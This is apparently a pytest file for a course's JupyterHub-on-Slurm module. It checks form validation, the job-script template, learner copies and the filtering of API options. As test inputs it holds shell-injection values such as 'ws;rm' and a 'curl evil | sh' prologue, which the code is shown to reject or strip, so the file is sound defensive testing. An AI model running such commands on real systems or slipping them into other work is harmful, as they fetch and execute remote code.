"""The room's hub without a hub: its settings, its spawn form's checks, the learner's job script and
the learner's copy of the course (dpcourse.hub). tests/test_hub.py runs the real thing."""
import shutil
import subprocess

import jinja2
import pytest

from conftest import ROOT
from dpcourse import hub


@pytest.fixture
def room(tmp_path, monkeypatch):
    monkeypatch.setenv("DPCOURSE_HUB_STATE", str(tmp_path / "state"))
    return hub.Settings.from_env(course=ROOT, cpus=4, gpus=1, max_cpus=8, max_gpus=2,
                                 max_time="04:00:00", time="02:00:00", memory="16G")


def form(**values):
    base = {"account": "trn01", "partition": "gpu", "reservation": "ws", "time": "01:30:00",
            "cpus": "4", "gpus": "1"}
    return {k: [v] for k, v in {**base, **values}.items()}


def test_the_environment_overrides_the_file_and_numbers_stay_numbers(room, monkeypatch):
    monkeypatch.setenv("DPCOURSE_HUB_CPUS", "2")
    monkeypatch.setenv("DPCOURSE_HUB_ADMINS", "ana, ben")
    s = hub.Settings.from_env(course=ROOT, cpus=4)
    assert s.cpus == 2 and s.admins == ("ana", "ben") and s.course == ROOT.resolve()
    assert oct(s.state.stat().st_mode & 0o777) == "0o700", "the hub's database is root's alone"


def test_the_form_becomes_the_job_s_options(room):
    opts = room.options_from_form(form())
    assert opts == {"account": "trn01", "partition": "gpu", "reservation": "ws",
                    "time": "01:30:00", "cpus": "4", "gpus": "1", "memory": "16G"}
    assert room.options_from_form(form(gpus="0"))["gpus"] == "0"
    assert "value=\"02:00:00\"" in room.options_form() and 'max="8"' in room.options_form()


@pytest.mark.parametrize("values, says", [
    ({"time": "3h"}, "write it as HH:MM:SS"),
    ({"time": "01:75:00"}, "write it as HH:MM:SS"),
    ({"time": "05:00:00"}, "at most 04:00:00"),
    ({"time": "00:00:00"}, "above 0"),
    ({"cpus": "lots"}, "whole numbers"),
    ({"cpus": "9"}, "CPUs 1 to 8"),
    ({"gpus": "-1"}, "GPUs 0 to 2"),
    ({"account": "trn01 --uid=0"}, "letters, digits"),
    ({"reservation": "ws;rm"}, "letters, digits"),
])
def test_a_wrong_form_value_is_refused_with_what_to_change(room, values, says):
    with pytest.raises(ValueError, match=says):
        room.options_from_form(form(**values))


def test_the_learner_s_job_script_passes_shellcheck(room, tmp_path):
    if not shutil.which("shellcheck"):
        pytest.skip("no shellcheck")
    for container in ("", "/shared/dpcourse.sif"):
        room.container = container
        script = jinja2.Template(hub.BATCH_SCRIPT).render(
            homedir="/home/ana", keepvars="JUPYTERHUB_API_TOKEN,USER,HOME",
            **room.checked({"account": "trn01", "partition": "gpu", "time": "01:00:00",
                            "cpus": "4", "gpus": "1"}),
            prologue=room.prologue(), cmd=f"{room.singleuser_wrapper()} jupyterhub-singleuser")
        assert "#SBATCH --gpus-per-node=1" in script and "--reservation" not in script
        assert "#SBATCH --mem=16G" in script and "#SBATCH --no-requeue" in script
        path = tmp_path / "job.sh"
        path.write_text(script)
        done = subprocess.run(["shellcheck", "--severity=style", str(path)], capture_output=True,
                              text=True, timeout=60)
        assert done.returncode == 0, done.stdout + script


def test_the_learner_s_copy_is_made_once_and_kept(tmp_path, monkeypatch):
    monkeypatch.delenv("DPCOURSE_DATA", raising=False)
    dest = hub.prepare(ROOT, tmp_path / "dpcourse")
    assert (dest / "notebooks" / "00_setup.ipynb").exists() and (dest / "labs").is_dir()
    assert (dest / ".venv").resolve() == (ROOT / ".venv").resolve()
    assert not (dest / "solutions").exists(), "the learner's copy holds no solutions"
    if (ROOT / ".venv" / ".installed-stamp").exists():  # make check there never installs
        plan = subprocess.run(["make", "-n", "check"], cwd=dest, capture_output=True, text=True,
                              timeout=60).stdout
        assert "pip install" not in plan and "dpcourse.course check" in plan, plan
    (dest / "notebooks" / "00_setup.ipynb").write_text("my work")
    hub.prepare(ROOT, dest)
    assert (dest / "notebooks" / "00_setup.ipynb").read_text() == "my work"


def test_a_start_through_the_api_gets_the_form_s_checks_and_nothing_else(room):
    """batchspawner merges user_options into the job script's variables as they come: a learner
    calling the REST API could otherwise replace the prologue or the command, or skip the limits."""
    class Spawner:
        user_options = {"time": "01:00:00", "cpus": 2, "gpus": 1, "prologue": "curl evil | sh",
                        "cmd": "sleep 99999", "keepvars": "ALL"}

    spawner = Spawner()
    room.pre_spawn_hook(spawner)
    assert set(spawner.user_options) == set(hub.FIELDS) | {"memory"}
    assert spawner.user_options["cpus"] == "2"
    spawner.user_options = {"gpus": 4}
    with pytest.raises(ValueError, match="GPUs 0 to 2"):
        room.pre_spawn_hook(spawner)


def test_root_refuses_what_others_may_change(tmp_path):
    ok = tmp_path / "ok"
    ok.mkdir(mode=0o755)
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o775)
    (shared / "config.py").write_text("")
    assert hub.unsafe_for_root([ok]) == [] or tmp_path.stat().st_uid != 0
    assert any(str(shared) in p for p in hub.unsafe_for_root([shared / "config.py"]))
